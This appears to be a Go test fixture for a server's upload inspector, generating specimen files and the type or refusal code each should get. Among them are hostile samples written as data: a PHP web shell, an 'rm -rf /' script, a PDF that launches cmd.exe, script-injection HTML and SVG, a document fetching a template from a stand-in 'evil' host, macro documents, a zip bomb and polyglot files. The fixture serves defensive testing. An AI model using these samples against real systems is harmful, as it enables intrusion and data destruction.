package upload

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"hash/crc32"
	pixels "image"
	"image/color"
	"image/jpeg"
	"image/png"
	"strings"

	"holdfast/server/upload/inspection"
)

// The hostile files are made here, by code that can be read; none is stored.

// gps is an EXIF block with an orientation and a position, as a camera writes it.
func gps(orientation uint16) []byte {
	var b bytes.Buffer
	w := func(v any) { _ = binary.Write(&b, binary.LittleEndian, v) }
	b.WriteString("II*\x00")
	w(uint32(8))
	w(uint16(3))
	w([]uint16{0x0112, 3})
	w(uint32(1))
	w([]uint16{orientation, 0})
	w([]uint16{0xa431, 2}) // the body's serial number
	w(uint32(12))
	w(uint32(200))
	w([]uint16{0x8825, 4}) // where the GPS entries stand
	w(uint32(1))
	w(uint32(60))
	w(uint32(0))
	for b.Len() < 60 {
		b.WriteByte(0)
	}
	w(uint16(1))
	w([]uint16{1, 2})
	w(uint32(2))
	b.WriteString("N\x00\x00\x00")
	w(uint32(0))
	b.WriteString(coordinate)
	for b.Len() < 200 {
		b.WriteByte(0)
	}
	b.WriteString("SN1234567890")
	return b.Bytes()
}

const (
	coordinate = "GPSLatitude 53.380943 GPSLongitude -1.469621"
	xmp        = `http://ns.adobe.com/xap/1.0/` + "\x00" + `<x:xmpmeta><rdf:Description exif:GPSLatitude="53,22.8566N" exif:GPSLongitude="1,28.1773W"/>` + coordinate + `</x:xmpmeta>`
)

// corner is a picture whose top left quarter alone is red.
func corner(w, h int) pixels.Image {
	p := pixels.NewRGBA(pixels.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			c := color.RGBA{20, 60, 200, 255}
			if x < w/2 && y < h/2 {
				c = color.RGBA{220, 20, 20, 255}
			}
			p.SetRGBA(x, y, c)
		}
	}
	return p
}

func jpegOf(w, h int) []byte {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, corner(w, h), nil); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func pngOf(w, h int) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, corner(w, h)); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// segment puts a JPEG segment right after the start of the image.
func segment(img []byte, marker byte, body string) []byte {
	out := append([]byte{}, img[:2]...)
	out = append(out, 0xff, marker, byte((len(body)+2)>>8), byte(len(body)+2))
	out = append(out, body...)
	return append(out, img[2:]...)
}

// chunk puts a PNG chunk right after the header.
func chunk(img []byte, name, body string) []byte {
	const header = 8 + 25
	var c bytes.Buffer
	_ = binary.Write(&c, binary.BigEndian, uint32(len(body)))
	c.WriteString(name + body)
	_ = binary.Write(&c, binary.BigEndian, crc32.ChecksumIEEE([]byte(name+body)))
	return append(append(append([]byte{}, img[:header]...), c.Bytes()...), img[header:]...)
}

// claims makes an image's header say other dimensions than it has.
func claims(img []byte, w, h uint32) []byte {
	out := append([]byte{}, img...)
	if bytes.HasPrefix(img, []byte("\x89PNG")) {
		binary.BigEndian.PutUint32(out[16:], w)
		binary.BigEndian.PutUint32(out[20:], h)
		binary.BigEndian.PutUint32(out[29:], crc32.ChecksumIEEE(out[12:29]))
		return out
	}
	at := bytes.Index(out, []byte{0xff, 0xc0})
	binary.BigEndian.PutUint16(out[at+5:], uint16(h))
	binary.BigEndian.PutUint16(out[at+7:], uint16(w))
	return out
}

// zipped is an archive of name, content pairs.
func zipped(pairs ...string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i+1 < len(pairs); i += 2 {
		f, err := z.Create(pairs[i])
		if err != nil {
			panic(err)
		}
		_, _ = f.Write([]byte(pairs[i+1]))
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

const wordTypes = `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`

func docx(more ...string) []byte {
	return zipped(append([]string{"[Content_Types].xml", wordTypes, "_rels/.rels", "<Relationships/>", "word/document.xml", "<w:document>Attendance</w:document>"}, more...)...)
}

func xlsx(more ...string) []byte {
	return zipped(append([]string{"[Content_Types].xml", "<Types/>", "_rels/.rels", "<Relationships/>", "xl/workbook.xml", "<workbook/>"}, more...)...)
}

func odt(more ...string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	pairs := append([]string{"mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<office/>"}, more...)
	for i := 0; i+1 < len(pairs); i += 2 {
		f, err := z.CreateHeader(&zip.FileHeader{Name: pairs[i], Method: zip.Store})
		if err != nil {
			panic(err)
		}
		_, _ = f.Write([]byte(pairs[i+1]))
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func pdf(more string) []byte {
	return []byte("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R " + more + ">>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
}

func gzipped(s string) []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = z.Write([]byte(s))
	_ = z.Close()
	return b.Bytes()
}

func utf16(s string) []byte {
	out := []byte{0xff, 0xfe}
	for _, c := range []byte(s) {
		out = append(out, c, 0)
	}
	return out
}

func ftyp(brand string) []byte {
	return []byte("\x00\x00\x00\x18ftyp" + brand + "\x00\x00\x00\x00" + brand + "mif1" + strings.Repeat("\x00", 64))
}

// webp is a lossless WebP of one pixel.
var webp = []byte("RIFF\x1a\x00\x00\x00WEBPVP8L\r\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00")

// told is a WebP that says more than its pixels: RIFF of name, content pairs, the
// picture among them, behind a header that announces them.
func told(pairs ...string) []byte {
	var body bytes.Buffer
	body.WriteString("WEBPVP8X\n\x00\x00\x00\x0c\x00\x00\x00\x00\x00\x00\x00\x00\x00") // EXIF and XMP, one pixel
	for i := 0; i+1 < len(pairs); i += 2 {
		body.WriteString(pairs[i])
		_ = binary.Write(&body, binary.LittleEndian, uint32(len(pairs[i+1])))
		body.WriteString(pairs[i+1])
		if len(pairs[i+1])%2 == 1 {
			body.WriteByte(0)
		}
	}
	out := binary.LittleEndian.AppendUint32([]byte("RIFF"), uint32(body.Len()))
	return append(out, body.Bytes()...)
}

// pixel is what webp draws.
var pixel = string(webp[20:33])

func join(parts ...[]byte) []byte { return bytes.Join(parts, nil) }

// specimen is one file and how it must end: its type, or the code of its refusal.
type specimen struct {
	name, kind string
	bytes      []byte
	want       string
}

func corpus() []specimen {
	photo, picture := jpegOf(64, 48), pngOf(64, 48)
	const html = "<!DOCTYPE html><html><script>alert(1)</script></html>"
	endless := strings.Repeat("\x00", 8<<20)
	all := []specimen{
		{"a photo", "home_conditions", photo, "image/jpeg"},
		{"a photo with a position", "home_conditions", segment(photo, 0xe1, "Exif\x00\x00"+string(gps(6))), "image/jpeg"},
		{"a picture", "drawing", picture, "image/png"},
		{"a small WebP", "other", webp, "image/webp"},
		{"a WebP with a position", "home_conditions", told("VP8L", pixel, "EXIF", string(gps(6)), "XMP ", xmp), "image/webp"},
		{"a WebP that is also a zip", "home_conditions", join(webp, zipped("a.exe", "MZ")), inspection.HiddenArchive},
		{"an iPhone's photo", "home_conditions", ftyp("heic"), "image/heic"},
		{"a heif", "home_conditions", ftyp("mif1"), "image/heif"},
		{"a PDF", "document", pdf(""), "application/pdf"},
		{"a document", "assessment", docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"},
		{"a spreadsheet", "document", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
		{"an open document", "letter", odt(), "application/vnd.oasis.opendocument.text"},
		{"a text", "document", []byte("Ivy, 71 per cent.\n"), "text/plain"},
		{"a table", "document", []byte("day,present\n1,yes\n2,no\n3,yes\n"), "text/csv"},
		{"a rich text", "document", []byte(`{\rtf1 Attendance}`), "text/rtf"},
		{"sound", "audio", wav(4_000), "audio/wav"},
		{"tagged sound", "audio", []byte("ID3\x04\x00\x00\x00\x00\x00\x10TIT2\x00\x00\x00\x06\x00\x00\x03Ivy \x00" + strings.Repeat("\xff\xfb\x90\x00", 40)), "audio/mpeg"},
		{"a voice memo", "audio", ftyp("M4A "), "audio/x-m4a"},
		{"a letter about C# and 100% of <5s", "document", []byte("C# and <5 and \"quotes\" & 100%\n"), "text/plain"},

		{"nothing", "document", nil, inspection.EmptyFile},
		{"noise", "document", []byte("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f"), inspection.TypeRefused},
		{"noise with sound in the middle", "audio", join(bytes.Repeat([]byte("\x01\x02"), 90), []byte("\xff\xfb\x90\x00")), inspection.TypeRefused},
		{"a video", "other", ftyp("isom"), inspection.TypeRefused},
		{"a photo as sound", "audio", photo, inspection.TypeRefused},
		{"sound as a photo", "home_conditions", wav(500), inspection.TypeRefused},
		{"a document as a photo", "home_conditions", docx(), inspection.TypeRefused},
		{"a gif", "home_conditions", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), inspection.TypeRefused},
		{"a tiff", "document", []byte("II*\x00\x08\x00\x00\x00\x00\x00"), inspection.TypeRefused},
		{"an apng", "drawing", chunk(picture, "acTL", "\x00\x00\x00\x02\x00\x00\x00\x00"), inspection.TypeRefused},
		{"a photo too large for a photo", "document", append(append([]byte{}, photo...), make([]byte, 15<<20)...), inspection.TooLarge},

		{"html", "document", []byte(html), inspection.TypeRefused},
		{"html in a text", "document", []byte("Dear all,\n\n" + html), inspection.ActiveContent},
		{"html far into a text", "document", []byte(strings.Repeat("word ", 40_000) + "<ScRiPt src=//x>"), inspection.ActiveContent},
		{"html across two reads", "document", []byte(strings.Repeat("x", 64<<10-3) + "<script>"), inspection.ActiveContent},
		{"html in UTF-16", "document", utf16("Dear all " + html), inspection.ActiveContent},
		{"html in a table", "document", []byte("a,b\n1,<iframe src=x>\n2,3\n4,5\n"), inspection.ActiveContent},
		{"xhtml", "document", []byte(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>`), inspection.TypeRefused},
		{"svg", "drawing", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>`), inspection.TypeRefused},
		{"svg behind xml", "drawing", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`), inspection.TypeRefused},
		{"svg as a letter", "letter", []byte(` <svg xmlns="http://www.w3.org/2000/svg"/>`), inspection.TypeRefused},
		{"php", "document", []byte("<?php system($_GET[0]); ?>"), inspection.TypeRefused},
		{"a shell script", "document", []byte("#!/bin/sh\nrm -rf /\n"), inspection.TypeRefused},
		{"python", "document", []byte("#!/usr/bin/env python\nimport os\n"), inspection.TypeRefused},
		{"javascript", "document", []byte("#!/usr/bin/env node\nprocess.exit()\n"), inspection.TypeRefused},
		{"json", "document", []byte(`{"a":[1,2,3]}`), inspection.TypeRefused},

		{"a zip", "document", zipped("a.txt", "a"), inspection.TypeRefused},
		{"a gzip", "document", gzipped("a"), inspection.TypeRefused},
		{"a 7z", "document", []byte("7z\xbc\xaf'\x1c\x00\x04aaaaaaaaaaaa"), inspection.TypeRefused},
		{"a rar", "document", []byte("Rar!\x1a\x07\x01\x00aaaaaaaaaa"), inspection.TypeRefused},
		{"a bzip2", "document", []byte("BZh91AY&SYaaaa"), inspection.TypeRefused},
		{"an xz", "document", []byte("\xfd7zXZ\x00aaaaaaaa"), inspection.TypeRefused},
		{"a jar", "document", zipped("META-INF/MANIFEST.MF", "Manifest-Version: 1.0", "A.class", "\xca\xfe\xba\xbe"), inspection.TypeRefused},
		{"an epub", "document", zipped("mimetype", "application/epub+zip"), inspection.TypeRefused},

		{"a Windows program", "document", append([]byte("MZ\x90\x00"), make([]byte, 200)...), inspection.TypeRefused},
		{"a Linux program", "document", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 100)...), inspection.TypeRefused},
		{"a Mac program", "document", append([]byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01"), make([]byte, 100)...), inspection.TypeRefused},
		{"a Java class", "document", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x34aaaa"), inspection.TypeRefused},
		{"a shortcut", "document", []byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + strings.Repeat("\x00", 60)), inspection.TypeRefused},
		{"a database", "document", []byte("SQLite format 3\x00" + strings.Repeat("\x00", 90)), inspection.TypeRefused},
		{"an old Word file", "document", append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 1024)...), inspection.TypeRefused},
		{"wasm", "document", []byte("\x00asm\x01\x00\x00\x00"), inspection.TypeRefused},

		{"a document with a macro", "document", docx("word/vbaProject.bin", "x"), inspection.Macros},
		{"a document with a macro by another name", "document", docx("word/VBAPROJECT.BIN", "x"), inspection.Macros},
		{"a document that says it has macros", "document",
			zipped("[Content_Types].xml", `<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`, "_rels/.rels", "x", "word/document.xml", "x"), inspection.Macros},
		{"a spreadsheet with an old macro", "document", xlsx("xl/macrosheets/sheet1.xml", "x"), inspection.Macros},
		{"a document with ActiveX", "document", docx("word/activeX/activeX1.bin", "x"), inspection.Macros},
		{"an open document with a macro", "document", odt("Basic/Standard/Module1.xml", "x"), inspection.Macros},
		{"an open document with a script", "document", odt("Scripts/python/x.py", "x"), inspection.Macros},
		{"a document with a program in it", "document", docx("word/embeddings/setup.exe", "MZ"), inspection.ActiveContent},
		{"a document with an object in it", "document", docx("word/embeddings/oleObject1.bin", "x"), inspection.ActiveContent},
		{"a document with a page in it", "document", docx("word/afchunk.html", html), inspection.ActiveContent},
		{"a document that fetches its template", "document",
			docx("word/_rels/settings.xml.rels", `<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>`), inspection.ActiveContent},
		{"a document that unpacks without end", "document", docx("word/media/a.bmp", endless), inspection.Bomb},
		{"a document with no text", "document", zipped("[Content_Types].xml", wordTypes, "_rels/.rels", "x", "word/styles.xml", "x"), inspection.NotWhole},
		{"a document cut off", "document", docx()[:300], inspection.TypeRefused},
		{"a document with something behind it", "document", join(docx(), []byte("MZ and more")), inspection.NotWhole},
		{"a document with something before its parts", "document", shifted(docx()), inspection.TypeRefused},

		{"a photo that is also a zip", "home_conditions", join(photo, zipped("a.exe", "MZ")), inspection.HiddenArchive},
		{"a picture that is also a jar", "drawing", join(picture, zipped("A.class", "x")), inspection.HiddenArchive},
		{"a PDF that is also a zip", "document", join(pdf(""), zipped("a.js", "x")), inspection.HiddenArchive},
		{"sound that is also a zip", "audio", join(wav(900), zipped("a", "b")), inspection.HiddenArchive},
		{"a photo that is also a page", "home_conditions", segment(photo, 0xfe, html), "image/jpeg"}, // sealed: it is served as a photo, to be saved, never shown
		{"a page that is also a photo", "home_conditions", join([]byte(html), photo), inspection.TypeRefused},
		{"a program that is also a PDF", "document", join([]byte("MZ\x90\x00"+strings.Repeat("\x00", 100)), pdf("")), inspection.NotWhole},

		{"a HEIC that is also a zip", "home_conditions", join(ftyp("heic"), zipped("a.exe", "MZ")), inspection.HiddenArchive},
		{"a HEIC with nothing in it", "home_conditions", ftyp("heic"), "image/heic"}, // sealed: nothing here opens it
		{"a HEIC that is also a page", "home_conditions", join(ftyp("heic"), []byte(html)), "image/heic"},
		{"a page that says HEIC", "home_conditions", join([]byte(html), ftyp("heic")), inspection.TypeRefused},

		{"a PDF with a script", "document", pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), inspection.ActiveContent},
		{"a PDF with a hidden script", "document", pdf("/OpenAction<</S/J#61vaScript/JS(1)>>"), inspection.ActiveContent},
		{"a PDF that starts a program", "document", pdf("/OpenAction<</S/Launch/F(cmd.exe)>>"), inspection.ActiveContent},
		{"a PDF with a film", "document", pdf("/Subtype/RichMedia"), inspection.ActiveContent},
		{"a PDF behind a page", "document", join([]byte(html), pdf("")), inspection.NotWhole},
		{"a PDF behind a line", "document", join([]byte("hello\n"), pdf("")), inspection.NotWhole},
		{"a PDF behind a blank line", "document", join([]byte("\r\n"), pdf("")), "application/pdf"},
	}
	return all
}

// shifted moves an archive's bytes without telling its list.
func shifted(z []byte) []byte { return join(z[:30], []byte("extra"), z[30:]) }
